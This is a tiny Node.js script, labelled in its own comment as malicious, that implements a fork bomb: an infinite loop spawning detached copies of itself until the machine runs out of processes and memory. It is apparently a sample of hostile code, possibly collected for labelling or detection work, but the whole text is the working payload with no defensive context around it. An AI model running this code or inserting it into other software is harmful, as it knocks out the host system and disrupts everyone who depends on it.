// Malicious: spawns detached copies of itself forever; a fork bomb.
const { spawn } = require('child_process');
while (true) {
  spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' });
}
